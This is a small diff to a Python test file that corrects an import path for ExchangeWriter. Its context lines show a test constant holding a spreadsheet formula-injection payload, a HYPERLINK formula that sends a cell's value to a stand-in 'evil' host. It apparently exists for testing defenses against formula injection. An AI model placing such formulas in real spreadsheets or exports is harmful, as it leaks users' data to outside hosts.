@@ -8,7 +8,7 @@ from pathlib import Path
 import pandas as pd
 import pytest
 from cancelwire.run.pipeline import audit
-from cancelwire.tables.exchanges.exchanges import ExchangeWriter
+from cancelwire.tables.exchanges import ExchangeWriter
 from transcripts import Line, write_transcript
 
 FORMULA = '=HYPERLINK("http://evil/?"&A1,"click")'
